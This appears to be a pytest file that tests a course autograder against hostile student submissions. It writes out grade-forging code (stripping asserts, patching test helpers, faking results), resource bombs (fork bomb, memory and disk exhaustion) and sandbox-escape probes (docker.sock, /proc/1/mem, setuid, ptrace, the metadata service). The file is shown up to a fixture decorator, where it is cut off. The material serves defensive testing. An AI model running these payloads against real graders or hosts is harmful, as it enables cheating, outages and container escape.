"""What submissions try while they are graded on the class's real Swarm: what became of each, and what is told of it.

A course of its own, so that nothing of it comes into the class's. Two runs: the second also looks for what the first left
behind. What is measured are the tables in docs/explanation/autograding-attacks.md, to the word.
"""

import json
import subprocess
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat import NotebookNode, v4

from tests.lab import journey
from tests.support import lab
from tests.support.client import Kernel
from tests.support.grading import nbgrader
from tests.support.loading import ROOT
from tests.support.waiting import wait_until

PAGE = ROOT / "docs" / "explanation" / "autograding-attacks.md"
PLACE = "/var/lib/classhub/attacks"  # the course, on the hub
SPOOL = "/home/.classhub/grading-attacks"
DISK = (128 << 20) + 4096  # a size that no other course has: the scratch volumes are named by it
LIMITS = {
    "memory": 512 << 20, "disk": DISK, "cpus": 1.0, "per_cpu": 2, "pids": 256,
    "cell_seconds": 8, "seconds": 40, "output": 500_000, "wait": 120,
}  # fmt: skip
SLACK = 15  # seconds beyond its limit until a submission is given up: 120 would be long for a test
PYTHON = "/opt/jupyterhub/bin/python"
RIGHT, WRONG = "return x * x", "return -1"
NEXT = "\n# the next cell\n"


# -- the assignments


def cell(source: str, name: str, points: int = 0, solution: bool = False) -> NotebookNode:
    said = {"grade_id": name, "grade": bool(points), "solution": solution, "locked": bool(points)}
    extra = {"points": points} if points else {}
    metadata = {"nbgrader": {"schema_version": 3, "task": False, **said, **extra}}
    return v4.new_code_cell(source, metadata=metadata)


IMPORTS = "import unittest\nimport numpy as np"
ANSWER = (
    "def square(x):\n    ### BEGIN SOLUTION\n    return x * x  # THE SOLUTION\n    ### END SOLUTION"
)
HIDDEN = "### BEGIN HIDDEN TESTS\nassert square(7) == 49\n### END HIDDEN TESTS"
TESTS = {
    "visible": "assert square(2) == 4",
    "hidden": f"assert square(5) == 25\n{HIDDEN}",
    "equal": "np.testing.assert_equal(square(3), 9)",
    "method": "unittest.TestCase().assertEqual(square(4), 16)",
    "close": "assert np.allclose(square(1.5), 2.25)",
    "near": "assert abs(square(3) - 9) < 1e-9",
    "raises": "if square(4) != 16:\n    raise ValueError('no square')",
    "partial": "right = [square(n) == n * n for n in (2, 3, 4, 5)]\nright.count(True) / 4",
}
POINTS = len(TESTS)


def book(*cells: NotebookNode) -> NotebookNode:
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return v4.new_notebook(cells=list(cells), metadata={"kernelspec": kernel})


def sources() -> dict[str, dict[str, NotebookNode]]:
    """The instructor's notebooks of each assignment: one of many tests, and one of two notebooks."""
    answer = [v4.new_code_cell(IMPORTS), cell(ANSWER, "square", solution=True)]
    small = [cell(ANSWER, "square", solution=True), cell(TESTS["visible"], "visible", 1)]
    tests = [cell(source, name, 1) for name, source in TESTS.items()]
    pair = {name: book(*small) for name in ("first.ipynb", "second.ipynb")}
    return {"attacks": {"attacks.ipynb": book(*answer, *tests)}, "pair": pair}


# -- submissions


@dataclass
class Try:
    """A submission.

    Attributes:
        title: what it tries, for the page
        code: in cells before the tests, with NEXT between them
        answer: the body of what is asked for
        told: what the report says of it, with a | between what it may say; empty: nothing
        points: that it gets
        files: that lie beside the notebook
        links: name -> where a symbolic link leads
        change: made to the notebook at last
        second: like `answer`, in the second notebook of two
    """

    title: str
    code: str = ""
    answer: str = WRONG
    told: str = ""
    points: float = 0
    files: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    change: Callable[[NotebookNode], None] | None = None
    second: str = RIGHT


def proves_nothing(what: str) -> str:
    return f"{what} does not fail any more where it must"


ECHOED = "passes with another value in place of the right one, too"
NO_VALUE = "a value is not shown any more as it is"
STRIP = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    visit_Raise = visit_Assert
get_ipython().ast_transformers.append(Strip())
"""
STRIP_LINES = """
def strip(lines):
    return ["pass\\n" if line.startswith("assert") else line for line in lines]
get_ipython().input_transformers_cleanup.append(strip)
"""
TELL = STRIP.replace("return ast.copy_location(ast.Pass(), node)", (
    "told = getattr(node, 'msg', None) or ast.unparse(node)[:20] == 'raise AssertionError'\n"
    "        return node if told else ast.copy_location(ast.Pass(), node)"
))  # fmt: skip
SMALL = STRIP.replace("    visit_Raise = visit_Assert\n", "").replace(
    "return ast.copy_location(ast.Pass(), node)", (
    "told = node.msg or re.search(r'\\d{6}', ast.unparse(node))\n"
    "        return node if told else ast.copy_location(ast.Pass(), node)"
)).replace("import ast", "import ast, re")  # fmt: skip
EQUAL = "return type('Anything', (), {'__eq__': lambda *_: True, '__ne__': lambda *_: False})()"
HELPERS = """
for name in ("assert_equal", "assert_allclose"):
    setattr(np.testing, name, lambda *args, **words: None)
unittest.TestCase.assertEqual = lambda *args, **words: None
"""
ALIKE = "np.allclose = np.isclose = np.array_equal = lambda *args, **words: True"
BUILTINS = """
import builtins
builtins.AssertionError = builtins.ValueError = type("Quiet", (BaseException,), {})
builtins.abs = lambda x: 0
"""
SILENT = "get_ipython().showtraceback = lambda *args, **words: None"
CUSTOM = "get_ipython().set_custom_exc((BaseException,), lambda *args, **words: None)"
RUN_NOTHING = """
async def run_code(*args, **words):
    return False
get_ipython().run_code = run_code
"""
SWALLOW = """
ip = get_ipython()
ip.showtraceback = lambda *args, **words: None
def forget(result):
    result.error_in_exec = result.error_before_exec = None
ip.events.register("post_run_cell", forget)
"""
MESSAGES = """
session = get_ipython().kernel.session
send = session.send
def quiet(stream, kind, content=None, *args, **words):
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **words)
session.send = quiet
"""
CLEAR = """
from IPython.display import clear_output
get_ipython().events.register("post_run_cell", lambda *args: clear_output())
"""
NO_VALUES = "get_ipython().ast_node_interactivity = 'none'"
FORMAT = """
shown = get_ipython().display_formatter.formatters["text/plain"]
shown.for_type(float, lambda value, printer, cycle: printer.text("1.0"))
"""
SHOW = "import sys; sys.displayhook({}); return -1"
FORGE = """
import subprocess, sys
code = '''
import hashlib, json, os, signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
cells = {str(n): {"outputs": [], "execution_count": n} for n in range(30)}
job = open("/submission/job").read() or open("/submission/files/attacks.ipynb").read()
digest = hashlib.sha256(job.encode()).hexdigest()
while True:
    with open("/submission/result", "w") as file:
        json.dump({"digest": digest, "notebooks": {"attacks.ipynb": {"cells": cells}}}, file)
    time.sleep(0.01)
'''
for _ in range(4):
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
"""
LIMIT = """
import resource
resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
"""
INSTEAD = f"""
import hashlib, json
cells = {{str(n): {{"outputs": [], "execution_count": n}} for n in range(30)}}
digest = hashlib.sha256(open("/submission/files/attacks.ipynb", "rb").read()).hexdigest()
with open("/submission/result", "w") as file:
    json.dump({{"digest": digest, "notebooks": {{"attacks.ipynb": {{"cells": cells}}}}}}, file)
{LIMIT}"""
CLOSED = "import os\nos.chmod('/submission/result', 0)"
LIE = r"""class GradingError(Exception): pass
    raise GradingError("8 of 8\x1b[2J\n\nautograde: all is well\u202e`</code><script>")"""
FAKE_NUMPY = """
class testing:
    assert_equal = assert_allclose = staticmethod(lambda *args, **words: None)
allclose = lambda *args, **words: True
"""
POISON = f"try:\n    from IPython import get_ipython{textwrap.indent(STRIP, '    ')}except Exception: pass\n"
NAMES = [
    "sitecustomize.py", "usercustomize.py", "poison.pth", "random.py", "json.py", "zmq.py", "nbformat.py",
    "ipykernel.py", "ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py",
    ".ipython/profile_default/startup/00.py", ".local/lib/python3.11/site-packages/poison.pth",
]  # fmt: skip
SPEC = json.dumps(
    {
        "argv": ["sh", "-c", "echo '{}' >/submission/result"],
        "display_name": "Mine",
        "language": "python",
    }
)
SOLVE = """
import json, os
for place, _, names in os.walk("."):
    for name in names:
        text = open(os.path.join(place, name)).read()
        if name.endswith(".ipynb") and (mark := "THE" + " SOLUTION") in text:
            exec("".join(next(c["source"] for c in json.loads(text)["cells"] if mark in str(c))))
"""


def tagged(book: NotebookNode) -> None:
    for each in book.cells:
        each.metadata.tags = ["skip-execution"]


def enriched(book: NotebookNode) -> None:
    for each in book.cells:
        if "nbgrader" in each.metadata:
            each.metadata.nbgrader |= {"points": 100, "max_score": 100, "score": 100}


def rewritten(book: NotebookNode) -> None:
    for each in graded_in(book):
        each.source = "assert True\n1"


def as_text(book: NotebookNode) -> None:
    for place, each in enumerate(book.cells):
        if each in graded_in(book):
            book.cells[place] = v4.new_markdown_cell(
                each.source, id=each.id, metadata=each.metadata
            )


def deleted(book: NotebookNode) -> None:
    book.cells = [each for each in book.cells if each not in graded_in(book)]


def doubled(book: NotebookNode) -> None:
    for each in graded_in(book):
        for place in (2, len(book.cells)):
            book.cells.insert(place, v4.new_code_cell("assert True", metadata=each.metadata))


def instead(book: NotebookNode) -> None:
    book.cells.append(v4.new_code_cell(INSTEAD))


def graded(book: NotebookNode) -> None:
    book.cells.append(cell("assert True", "mine", 100))


def kernel_of_ones_own(book: NotebookNode) -> None:
    book.metadata.kernelspec = {
        "name": "mine",
        "display_name": "Mine",
        "language": "python",
        "argv": ["true"],
    }


def in_r(book: NotebookNode) -> None:
    book.metadata.kernelspec = {"name": "ir", "display_name": "R", "language": "R"}


def graded_in(book: NotebookNode) -> list[NotebookNode]:
    return [each for each in book.cells if each.metadata.get("nbgrader", {}).get("grade")]


MARKS = {
    "tags": Try("every cell tagged `skip-execution`", change=tagged, told="visible: had other tags"),
    "points": Try("100 points for each test, by metadata", change=enriched, told="visible: had other nbgrader metadata"),
    "rewritten": Try("tests rewritten to `assert True`", change=rewritten, told="visible: was changed"),
    "text": Try("tests turned into text", change=as_text, told="visible: was of type markdown"),
    "deleted": Try("tests deleted", change=deleted, told="visible: was missing"),
    "doubled": Try("tests there three times, two of them empty", change=doubled, told="visible: there 3 times"),
    "graded": Try("a graded cell of one's own, for 100 points", change=graded, told="mine: is none of the assignment's"),
    "asserts": Try("`assert` and `raise` taken out of all code (AST)", STRIP, told=proves_nothing("assert")),
    "lines": Try("lines with `assert` taken out of all cells", STRIP_LINES, told=proves_nothing("assert")),
    "tell": Try("`assert` and `raise` taken out where they have no message, as canaries have", TELL, told=ECHOED),
    "anything": Try("an answer that is equal to everything", answer=EQUAL, told=ECHOED),
    "helpers": Try("`numpy.testing` and `unittest` replaced", HELPERS, told=proves_nothing("np.testing.assert_equal")),
    "alike": Try("`np.allclose` says yes to everything", ALIKE, told=proves_nothing("np.allclose")),
    "builtins": Try("`abs` and `AssertionError` replaced", BUILTINS, told=proves_nothing("abs")),
    "numpy": Try("a `numpy.py` beside the notebook", files={"numpy.py": FAKE_NUMPY}, told=proves_nothing("np.allclose")),
    "silent": Try("IPython shows no errors", SILENT),
    "custom": Try("IPython's handler of errors replaced", CUSTOM),
    "nothing": Try("IPython runs no code any more", RUN_NOTHING, told=proves_nothing("assert")),
    "swallow": Try("errors forgotten after each cell", SWALLOW, told=proves_nothing("assert")),
    "messages": Try("the kernel sends no errors", MESSAGES, told=proves_nothing("assert")),
    "clear": Try("outputs cleared after each cell", CLEAR, told=NO_VALUE),
    "early": Try("a value shown before the test fails", answer=SHOW.format("'all right'"), told="shows more than one value or error"),
    "early_100": Try("100 points shown as a value", answer=SHOW.format("100"), told="shows what is no number of points"),
    "no_values": Try("values are not shown: partial credit becomes full", NO_VALUES, told=NO_VALUE),
    "format": Try("all numbers are shown as 1.0", FORMAT, told=NO_VALUE),
    "forge": Try("processes that write a result of their own", FORGE),
    "limit": Try("the runner is kept from opening files", LIMIT, told="exit code"),
    "instead": Try("a result is written, and then the runner brought down", change=instead,
                   told="the result is of another job"),
    "closed": Try("the result is closed to the runner", CLOSED, told="exit code 1"),
    "lie": Try("an error that looks like classhub's, and commands the terminal", answer=LIE, told="GradingError: 8 of 8 [2J"),
    "exit": Try("`sys.exit` in what is tested", answer="import sys; sys.exit()"),
    "exit_now": Try("`os._exit` before the tests", "import os\nos._exit(0)", told="DeadKernelError: the kernel died"),
    "kernel": Try("a kernel of one's own, named in the notebook", change=kernel_of_ones_own,
                  files={f"{top}/kernels/{name}/kernel.json": SPEC
                         for top in ("share/jupyter", ".local/share/jupyter") for name in ("mine", "python3")}),
    "r": Try("the notebook says that it is in R", change=in_r, told="kernel: was for r"),
    "poison": Try("`sitecustomize.py`, `.pth`, `random.py`, `.ipython` and nine more", files=dict.fromkeys(NAMES, POISON)),
    "links": Try("symbolic links to the solution", SOLVE,
                 links={"more.ipynb": f"{PLACE}/source/attacks/attacks.ipynb", "more": f"{PLACE}/source"}),
    "link": Try("a symbolic link in place of the notebook", told="attacks.ipynb: is missing",
                links={"attacks.ipynb": f"{PLACE}/source/attacks/attacks.ipynb"}),
}  # fmt: skip

FORKS = "import os, signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try: os.fork()\n    except OSError: pass"
MEMORY = "taken = [b'x' * (1 << 29) for _ in range(4)]"
PRINT = "while True: print('x' * 10_000, flush=True)"
TINY = """
kernel = get_ipython().kernel
while True:
    content = {"data": {}, "metadata": {}}
    kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent())
"""
DEEP = """
shown = 1
for _ in range(485): shown = [shown]
kernel = get_ipython().kernel
content = {"data": {"application/json": shown}, "metadata": {}}
kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent())
"""
FILL = """
import os
for path in ("/work/big", "/submission/result", "/submission/job", "/dev/shm/big", "/tmp/big"):
    try:
        with open(path, "wb", buffering=0) as file:
            for _ in range(10_000): file.write(bytes(1 << 20))
    except OSError as error:
        print(path, os.path.getsize(path) >> 20, "MiB", error.strerror)
"""
SPILL = """
import os, time
for name in os.listdir("/proc/self/fd"):
    try:
        os.set_blocking(int(name), False)
        if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:"):
            for _ in range(10_000): os.write(int(name), b"spilt" * 10_000 + b"\\n")
    except OSError: pass
"""
DEAF = """
import time
while True:
    try:
        while True: time.sleep(1)
    except BaseException: pass
"""
FREEZE = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"
STARVE = """
import os, resource
os.setpriority(os.PRIO_PROCESS, 1, 19)
os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
for _ in range(60):
    if not os.fork():
        while True: pass
while True: pass
"""
BOMBS = {
    "forks": Try("a fork bomb", FORKS, RIGHT, "UnresponsiveKernelError: the code did not stop"),
    "memory": Try("all memory", MEMORY, RIGHT, "DeadKernelError: the kernel died"),
    "print": Try("output without end", PRINT, RIGHT, "OutputError: the submission has more output"),
    "tiny": Try("empty outputs without end", TINY, RIGHT, "OutputError: the submission has more output"),
    "deep": Try("an output of 485 lists in each other", DEEP, RIGHT, "values that are nested too deeply"),
    "fill": Try("10 GB into each file that can be written", FILL, RIGHT, points=POINTS),
    "spill": Try("10 GB into the container's log", SPILL, RIGHT, points=POINTS),
    "deaf": Try("a loop that no interrupt ends", DEAF, RIGHT, "UnresponsiveKernelError: the code did not stop"),
    "freeze": Try("the kernel stops itself", FREEZE, RIGHT, "UnresponsiveKernelError: the code did not stop"),
    "crash": Try("the kernel crashes", "import ctypes\nctypes.string_at(0)", RIGHT, "DeadKernelError: the kernel died"),
    # whichever of its clocks the runner, which hardly runs, sees first
    "starve": Try("60 busy processes, and the runner at the lowest priority", STARVE, RIGHT, "UnresponsiveKernelError: the code did not stop|GradingTimeout: the submission took longer"),
}  # fmt: skip


def peeking(book: NotebookNode) -> None:
    book.cells.append(v4.new_code_cell("print('PEEKED', *In)"))


def tidying(book: NotebookNode) -> None:
    book.cells.append(v4.new_code_cell("get_ipython().ast_transformers.clear()"))


LUCK = {
    "tidy": Try(
        "`assert` taken out where it has no message, and put back by a cell behind the tests",
        TELL,
        points=5,
        change=tidying,
    ),
    "small": Try(
        "`assert` taken out where it has no message and no large number: echoes have one",
        SMALL,
        points=4,
    ),
    "peek": Try(
        "print the hidden tests from a cell behind them", "", RIGHT, points=POINTS, change=peeking
    ),
}

KNOWN = {
    "honest": Try("", answer=RIGHT, points=POINTS),
    "star": Try("", "from numpy import *", RIGHT, points=POINTS),
    "names": Try("", "%precision 2\nsum = max = 0\nlist_of = [1]\nlist_of", RIGHT, points=POINTS),
}


# -- what code tries from inside, which is told by what it prints

PROBE = """
import ctypes, errno, fcntl, json, os, signal, socket, struct, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def tried(*acts):
    said = set()
    for act in acts:
        try:
            said.add(f"DONE: {act()!r:.200}")
        except OSError as error:
            said.add(error.strerror or type(error).__name__)
    return sorted(said)
def returned(value):
    if value == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return value
def syscall(number, *args):
    return lambda: returned(libc.syscall(number, *args))
def written(*paths, mode="wb"):
    return [lambda path=path: open(path, mode) for path in paths]
def told(*command):
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True)
    if done.returncode:
        raise OSError(0, done.stderr.strip().rpartition(": ")[2])
    return done.stdout
def reached(*targets):
    return [lambda target=target: socket.create_connection(target, timeout=2) for target in targets]
def sent(*targets):
    def send(target):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            channel.settimeout(2)
            channel.connect(target)
            channel.send(b"?")
            return channel.recv(1)
    return [lambda target=target: send(target) for target in targets]
def asked(request, data=b""):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
            return fcntl.ioctl(channel, request, struct.pack("16sH14x", b"eth0", 0x1043) + bytes(88))
    return ask
def found(*marks):
    for place, folders, names in os.walk("/"):
        folders[:] = [n for n in folders if os.path.join(place, n) not in ("/proc", "/sys", "/usr", "/opt")]
        for name in names:
            path = os.path.join(place, name)
            try:
                text = open(path, errors="replace").read(1 << 20) if os.path.isfile(path) else ""
            except OSError:
                continue
            if any(mark in text for mark in marks) and "PROBE" not in text:
                return path
    raise FileNotFoundError(errno.ENOENT, os.strerror(errno.ENOENT))
def all_signals():
    for number in set(signal.Signals):
        os.kill(1, number)
    raise OSError(0, "no effect")
def ptraced(process):
    return returned(libc.ptrace(16, process, None, None))
"""
NFS = ("10.77.0.11", 2049)  # the lab has none
TARGETS = {
    "the hub's API": ("10.77.0.11", 8081),
    "the hub's homes": NFS,
    "the Salt master": ("10.77.0.1", 4505),
    "the swarm's port of a node": ("10.77.0.21", 7946),
    "the other node's": ("10.77.0.22", 7946),
    "the node, by Docker's bridge": ("172.30.0.1", 7946),
}
ADDRESSES = [*TARGETS.values(), ("169.254.169.254", 80), ("1.1.1.1", 443)]
# title -> an expression: acts that are tried, or one
PROBES = {
    "read the hidden tests": "lambda: open('/submission/job').read() or found('square(7)')",
    "find a solution, a gradebook or another submission": "lambda: found('THE SOLUTION', 'SQLite format', 'by honest')",
    "open the course, homes, the exchange, the engine's socket": (
        "*written('/var/lib/classhub', '/home/ada', '/srv/nbgrader', '/etc/classhub/course.json',"
        " '/var/run/docker.sock', mode='rb')"
    ),
    "list the directory of the submission": "lambda: os.listdir('/submission')",
    "write to the image": "*written('/x', '/usr/x', '/etc/passwd', '/opt/jupyter/x', '/home/x', '/var/lib/x')",
    "write beside the job, to the runner, to the names of users": (
        "*written('/submission/x', '/submission/files/x', '/submission/files/attacks.ipynb', '/grading/x',"
        " '/grading/runner.py', '/var/lib/extrausers/passwd')"
    ),
    "write to the kernel's and the machine's files": (
        "*written('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/fs/cgroup/memory/x',"
        " '/sys/kernel/mm/ksm/run', '/dev/x', '/dev/mem', '/dev/sda')"
    ),
    "mount, remount, change the root, make a device": (
        "syscall(165, b'x', b'/work', b'tmpfs', 0, None), syscall(165, None, b'/', None, 32, None),"
        " syscall(161, b'/work'), lambda: os.mknod('/work/mem', 0o20666, os.makedev(1, 1))"
    ),
    "become root or another user": (
        "lambda: os.setuid(0), lambda: os.setuid(20002), lambda: os.setgroups([0]),"
        " lambda: os.chown('/work', 0, 0), lambda: told('su', '-c', 'id')"
    ),
    "namespaces of users and others": (
        "lambda: told('unshare', '--user', '--map-root-user', 'id'), lambda: told('unshare', '--net', 'id'),"
        " lambda: told('nsenter', '--target', '1', '--mount', 'id'), syscall(272, 0x10000000)"
    ),
    "system calls of root: keys, bpf, modules, file handles, clocks": (
        "*(syscall(number, 0, 0, 0, 0, 0) for number in (248, 249, 250, 321, 298, 175, 246, 304, 323, 227, 170, 169))"
    ),
    "the runner's memory, files, root and environment": (
        "*written('/proc/1/mem', '/proc/1/environ', '/proc/1/maps', mode='rb'), lambda: os.listdir('/proc/1/fd'),"
        " lambda: os.listdir('/proc/1/root'), lambda: os.listdir('/proc/1/cwd')"
    ),
    "trace the runner, and what kernels are forked from": "lambda: ptraced(1), lambda: ptraced(os.getppid())",
    "every signal to the runner": "all_signals",
    "connect to the class's hosts, the metadata service, the world": f"*reached(*{ADDRESSES})",
    "ask for a name": "lambda: socket.getaddrinfo('example.org', 80), *sent(('127.0.0.11', 53), ('8.8.8.8', 53))",
    "IPv6": "*reached(('2606:4700:4700::1111', 443), ('fe80::1%eth0', 22))",
    "bring the network up, or set a route or an address": "asked(0x8914), asked(0x890B), asked(0x8916)",
    "raw sockets": (
        "lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1), lambda: socket.socket(socket.AF_PACKET,"
        " socket.SOCK_RAW)"
    ),
}  # fmt: skip


def probing() -> str:
    cells = [
        f"print('SEEN', json.dumps([{title!r}, tried({acts})]))" for title, acts in PROBES.items()
    ]
    return NEXT.join([PROBE, *cells])


# -- what is left behind, and who finds it

LOOK = """
import ctypes, json, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
PLACES = ["/work/left", "/tmp/left", "/dev/shm/left", "/dev/mqueue/left", "/var/tmp/left"]
CALLS = {"shmget": (0x5EED, 4096, 0o1666), "semget": (0x5EED, 1, 0o1666), "msgget": (0x5EED, 0o1666)}
def lines(path):
    try:
        return open(path, errors="replace").read()
    except OSError:
        return ""
def look():
    seen = [path for path in PLACES if os.path.exists(path)]
    flagless = {"shmget": (0x5EED, 0, 0), "semget": (0x5EED, 0, 0), "msgget": (0x5EED, 0)}
    seen += [name for name, args in flagless.items() if getattr(libc, name)(*args) != -1]
    seen += ["abstract socket"] if "@left" in lines("/proc/net/unix") else []
    others = [lines(f"/proc/{n}/cmdline") for n in os.listdir("/proc") if n.isdecimal()]
    seen += ["process"] if any("ABIDE" in line for line in others) else []
    seen += ["job"] if os.path.getsize("/submission/job") else []
    seen += ["result"] if os.path.getsize("/submission/result") else []
    seen += ["key"] if libc.syscall(249, b"user", b"left", None, 0) != -1 else []
    return seen
"""
ABIDE = """
import signal, socket, time  # ABIDE
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
left = socket.socket(socket.AF_UNIX); left.bind("\\\\0left"); left.listen()
time.sleep(1000)
"""
LEAVE = f"""{LOOK}
import time
for path in [*PLACES, "/submission/job", "/submission/result"]:
    try: open(path, "w").write("left")
    except OSError: pass
for name, args in CALLS.items(): getattr(libc, name)(*args)
libc.syscall(248, b"user", b"left", b"left", 4, -4)
subprocess.Popen([sys.executable, "-c", '''{ABIDE}'''], start_new_session=True)
for _ in range(100):
    if "process" in look() and "abstract socket" in look(): break
    time.sleep(0.05)
print("LEFT", json.dumps(look()))
"""
LEFT = ["/work/left", "/tmp/left", "/dev/shm/left", "/dev/mqueue/left", "shmget", "semget", "msgget",
        "abstract socket", "process", "job", "result"]  # fmt: skip

# -- two notebooks of one submission, of which the first one tries to help the second

PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIG{})"
LATER = """
import json, os, pathlib, sys
fake = '''
from ipykernel.kernelapp import IPKernelApp
from ipykernel.ipkernel import IPythonKernel
class Kernel(IPythonKernel):
    async def do_execute(self, *args, **words):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
IPKernelApp.launch_instance(kernel_class=Kernel)
'''
pathlib.Path("/tmp/fake.py").write_text(fake)
for top in ("/tmp/.local/share/jupyter", os.environ.get("JUPYTER_DATA_DIR", "/tmp")):
    place = pathlib.Path(top, "kernels/python3")
    place.mkdir(parents=True, exist_ok=True)
    argv = [sys.executable, "/tmp/fake.py", "-f", "{connection_file}"]
    (place / "kernel.json").write_text(json.dumps({"argv": argv, "display_name": "Mine", "language": "python"}))
"""
PROFILE = f"""
import pathlib
(pathlib.Path(get_ipython().profile_dir.startup_dir) / "00.py").write_text({STRIP!r})
"""
PAIRS = {
    "pair_stop": Try("what forks the kernels is stopped", PARENT.format("STOP"), points=2, answer=RIGHT),
    "pair_kill": Try("what forks the kernels is ended", PARENT.format("KILL"), points=1, answer=RIGHT,
                     told="second.ipynb: GradingError"),
    "pair_kernel": Try("a kernel that says yes, for the next notebook", LATER, points=1, answer=RIGHT, second=WRONG,
                       told=proves_nothing("assert")),
    "pair_profile": Try("a profile without `assert`, for the next notebook", PROFILE, points=1, answer=RIGHT,
                        second=WRONG, told=proves_nothing("assert")),
    "pair_honest": Try("", answer=RIGHT, points=2),
    "pair_honest_too": Try("", answer=RIGHT, points=2),
}  # fmt: skip


# -- the course


def released(top: Path) -> None:
    for assignment, books in sources().items():
        (top / "source" / assignment).mkdir(parents=True)
        for name, notebook in books.items():
            nbformat.write(notebook, top / "source" / assignment / name)
        nbgrader(top, "generate_assignment", assignment)


def solved(released: Path, answer: str, code: str = "", last: str = "") -> NotebookNode:
    """A released notebook with an answer, and cells before and behind the tests."""
    notebook = nbformat.read(released, as_version=4)
    place = next(n for n, each in enumerate(notebook.cells) if "def square" in each.source)
    notebook.cells[place].source = f"def square(x):\n    {answer}"
    own = [v4.new_code_cell(source) for source in code.split(NEXT) if source]
    notebook.cells[place + 1 : place + 1] = own
    notebook.cells += [v4.new_code_cell(last)] * bool(last)
    return notebook


def submit(top: Path, assignment: str, user: str, one: Try) -> None:
    """What `collect` leaves of a submission."""
    place, released = top / "submitted" / user / assignment, top / "release" / assignment
    place.mkdir(parents=True)
    (place / "timestamp.txt").write_text("2026-11-23 10:00:00.123456 UTC")
    for path, text in one.files.items():
        (place / path).parent.mkdir(parents=True, exist_ok=True)
        (place / path).write_text(text)
    looks = f"{LOOK}\nprint('FOUND', json.dumps(look())){NEXT}" if user in PAIRS else ""
    last = LEAVE if user in LEAVING else ""
    first, *others = sorted(sources()[assignment])
    books = {first: solved(released / first, one.answer, f"{looks}{one.code}\n# by {user}", last)}
    books |= {name: solved(released / name, one.second) for name in others}
    if one.change:
        one.change(books[first])
    for name in books.keys() - one.links.keys():
        nbformat.write(books[name], place / name)
    for path, target in one.links.items():
        (place / path).symlink_to(target)


PROBER = {"prober": Try("", probing(), RIGHT, points=POINTS)}
FIRST = {**MARKS, **LUCK, **KNOWN, **PROBER, **BOMBS}
LEAVING = list(FIRST)[: len(PAIRS)]  # who has the same slots as the second run's


def settings() -> dict[str, Any]:
    """The settings of the class's own course, for this one."""
    found = json.loads(lab.on("hub", "cat", "/etc/classhub/course.json"))
    people = [
        {"username": name, "uid": 40_000 + number} for number, name in enumerate([*FIRST, *PAIRS])
    ]
    mine = {"course_id": "attacks", "course_dir": PLACE, "spool": SPOOL, "people": people}
    return found | mine | {"grading": LIMITS, "assignments": {}}


def clean() -> None:
    lab.shell("hub", f"rm -rf {PLACE} {SPOOL}")
    for host in lab.NODES:
        volumes = lab.docker(host, "volume", "ls", "--quiet", "--filter", f"name={DISK}").split()
        if volumes:
            lab.docker(host, "volume", "rm", *volumes, check=False)


@pytest.fixture(scope="module")
def course(site, tmp_path_factory) -> Iterator[None]:
    top = tmp_path_factory.mktemp("course")
    released(top)
    for assignment, tries in (("attacks", FIRST), ("pair", PAIRS)):
        for user, one in tries.items():
            submit(top, assignment, user, one)
    (top / "course.json").write_text(json.dumps(settings()))
    clean()
    try:
        lab.run("docker", "cp", f"{top}/.", f"{lab.CONTAINER}hub:{PLACE}")
        lab.shell("hub", f"chown -R root:root {PLACE} && chmod 0700 {PLACE}")
        yield
    finally:
        clean()


def autograde(assignment: str) -> dict[str, Any]:
    """The report of a run in this course."""
    code = (
        f"import sys; from classhub.grading import nodes; nodes.SLACK = {SLACK}; "
        "from classhub.course.__main__ import main; sys.exit(main())"
    )
    words = ["--config", f"{PLACE}/course.json", "autograde", assignment]
    command = ["docker", "exec", f"{lab.CONTAINER}hub", PYTHON, "-I", "-B", "-c", code, *words]
    done = subprocess.run(command, capture_output=True, text=True, timeout=400, check=False)
    print(*(line for line in done.stderr.splitlines() if line.startswith("autograde")), sep="\n")
    report = json.loads(done.stdout)
    assert "table" in report, report
    return report


@dataclass
class Measured:
    """What came of both runs.

    Attributes:
        table: user -> outcome, as the report has it
        graded: where the graded notebooks are
        kernel: of a student who was at work meanwhile
        container: of the student's server, by its id, when it began
        fresh: scratch volumes that no submission had before the second run
    """

    table: dict[str, str]
    graded: Path
    kernel: Kernel
    container: str
    fresh: int

    def printed(self, user: str, mark: str) -> list[Any]:
        """What cells of a user's notebooks printed behind a word, as JSON."""
        found = []
        for path in sorted(self.graded.glob(f"{user}/*/*.ipynb")):
            for each in nbformat.read(path, as_version=4).cells:
                text = "".join(output.get("text", "") for output in each.get("outputs", []))
                if text.startswith(mark):
                    found.append(json.loads(text.removeprefix(mark)))
        return found


def volumes() -> set[tuple[str, str]]:
    """Scratch volumes of this course, by node."""
    return {
        (host, name)
        for host in lab.NODES
        for name in lab.docker(host, "volume", "ls", "-q", "--filter", f"name={DISK}").split()
    }


@pytest.fixture(scope="module")
